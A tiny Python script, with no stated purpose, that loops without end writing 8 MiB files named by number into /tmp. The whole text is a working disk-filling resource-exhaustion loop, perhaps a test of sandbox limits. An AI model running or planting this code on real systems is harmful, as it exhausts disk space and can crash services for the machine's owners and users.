import itertools

for number in itertools.count():
    with open(f"/tmp/{number}", "wb") as file:
        for _ in range(8):
            file.write(b"x" * (1 << 20))
